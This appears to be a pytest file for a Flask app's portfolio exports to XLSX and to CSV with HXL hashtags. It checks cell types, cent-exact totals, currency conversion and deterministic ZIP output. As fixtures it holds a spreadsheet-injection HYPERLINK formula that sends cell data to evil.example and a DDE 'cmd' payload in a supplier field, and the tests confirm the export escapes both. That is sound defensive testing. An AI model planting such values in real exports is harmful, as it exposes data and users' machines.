"""The portfolio as an XLSX workbook and as CSV files with HXL hashtags: typed cells, values to the cent, and no
cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from flask import Flask
from openpyxl import load_workbook

from app.core.enums import PhaseKind, Role
from app.exports.data import portfolio_collect
from app.exports.tables import TABLES, portfolio_csv, portfolio_csv_zip, portfolio_xlsx
from app.extensions import db
from app.projects.tracking import milestone_create
from tests.budgets.helpers import add_line, add_rate, spend
from tests.exports.helpers import two_donors
from tests.factories import make_user

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _portfolio() -> Any:
    world = two_donors()
    add_rate("USD", "HNL", "24.500000", date(2024, 1, 1))
    hnl = add_line(world.ours, world.donor, description="Bloques", currency="HNL", unit_cost="12.25", quantity="100")
    spend(world.ours, hnl, "245.00", spent_on=date(2025, 4, 2), supplier="+cmd|' /C calc'!A0")
    works = next(p for p in world.ours.phases if p.kind is PhaseKind.WORKS)
    milestone_create(db.session(), world.ours, title=EVIL, phase_id=works.id, planned_date=date(2025, 6, 1))
    db.session.commit()
    return world, portfolio_collect(db.session(), make_user(Role.ADMIN), on=date(2025, 7, 1))


def _rows(sheet: Any) -> list[dict[str, Any]]:
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def test_the_workbook_has_typed_cells_frozen_headers_and_values_to_the_cent(db_ctx: Flask, english: None) -> None:
    _, portfolio = _portfolio()
    book = load_workbook(io.BytesIO(portfolio_xlsx(portfolio)))

    assert book.sheetnames == ["Centers", "Projects", "Phases", "Milestones", "Budgets", "Expenditures"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["A"].width >= 8
    budgets = {row["Description"]: row for row in _rows(book["Budgets"])}
    assert Decimal(str(budgets["Bloques"]["Budget"])) == Decimal("1225.00")
    assert budgets["Bloques"]["Currency"] == "HNL"
    assert Decimal(str(budgets["Line of DONA"]["Budget"])) == Decimal("2000.00")
    assert book["Budgets"]["I2"].number_format == "#,##0.00"
    entries = {row["Amount"]: row for row in _rows(book["Expenditures"])}
    assert Decimal(str(entries[1234.56]["Amount"])) == Decimal("1234.56")
    assert entries[1234.56]["Date"] == datetime(2025, 3, 1)
    assert entries[245]["Currency"] == "HNL"
    projects = {row["Project code"]: row for row in _rows(book["Projects"])}
    # 2000.00 USD + 1225.00 HNL / 24.5 = 2050.00 USD; spent 1234.56 USD + 245.00 HNL / 24.5 = 1244.56 USD.
    assert Decimal(str(projects["PRJ-A"]["Budget"])) == Decimal("2050.00")
    assert Decimal(str(projects["PRJ-A"]["Spent"])) == Decimal("1244.56")
    assert projects["PRJ-A"]["Currency"] == "USD"
    assert projects["PRJ-A"]["Planned start"] == datetime(2025, 1, 6)
    assert projects["PRJ-A"]["IATI identifier"] == "XM-DAC-47066-PRJ-A"
    centers = {row["Center code"]: row for row in _rows(book["Centers"])}
    assert centers["CTR-A"]["Department"] == "Cortés" and centers["CTR-A"]["Municipality"] == "Omoa"


def test_no_cell_starts_like_a_formula(app_ctx: Flask, english: None) -> None:
    _, portfolio = _portfolio()
    book = load_workbook(io.BytesIO(portfolio_xlsx(portfolio)))
    milestone = next(row for row in _rows(book["Milestones"]) if row["Milestone"].endswith('"click")'))
    assert milestone["Milestone"] == "'" + EVIL
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    expenditures = portfolio_csv(portfolio, "expenditures").decode("utf-8-sig")
    assert "'+cmd|" in expenditures and ",+cmd" not in expenditures
    assert "'" + EVIL.replace('"', '""') in portfolio_csv(portfolio, "milestones").decode("utf-8-sig")


def test_csv_files_carry_english_keys_and_hxl_hashtags_on_the_second_row(app_ctx: Flask) -> None:
    _, portfolio = _portfolio()
    data = portfolio_csv(portfolio, "projects")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, tags = rows[0], rows[1]
    assert header[:3] == ["project_code", "iati_identifier", "title"]
    assert all(tag.startswith("#") for tag in tags)
    assert {"#activity+code", "#adm1+name", "#adm2+name", "#org+funder", "#status", "#date+start+planned"} <= set(tags)
    assert {"#value+budget", "#currency"} <= set(tags)
    record = dict(zip(header, next(row for row in rows[2:] if row[0] == "PRJ-A"), strict=True))
    assert record["budget"] == "2050.00" and record["currency"] == "USD"
    assert record["planned_start"] == "2025-01-06"
    budgets = list(csv.reader(io.StringIO(portfolio_csv(portfolio, "budgets").decode("utf-8-sig"))))
    assert budgets[1][budgets[0].index("total")] == "#value+budget"
    assert budgets[1][budgets[0].index("currency")] == "#currency"
    assert {row[budgets[0].index("total")] for row in budgets[2:]} >= {"2000.00", "1225.00"}


def test_the_zip_holds_every_table_and_the_same_data_gives_the_same_bytes(app_ctx: Flask) -> None:
    _, portfolio = _portfolio()
    data = portfolio_csv_zip(portfolio, stamp=date(2025, 7, 1))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == [f"{table}.csv" for table in TABLES]
        for table in TABLES:
            assert archive.read(f"{table}.csv") == portfolio_csv(portfolio, table)
    assert portfolio_csv_zip(portfolio, stamp=date(2025, 7, 1)) == data
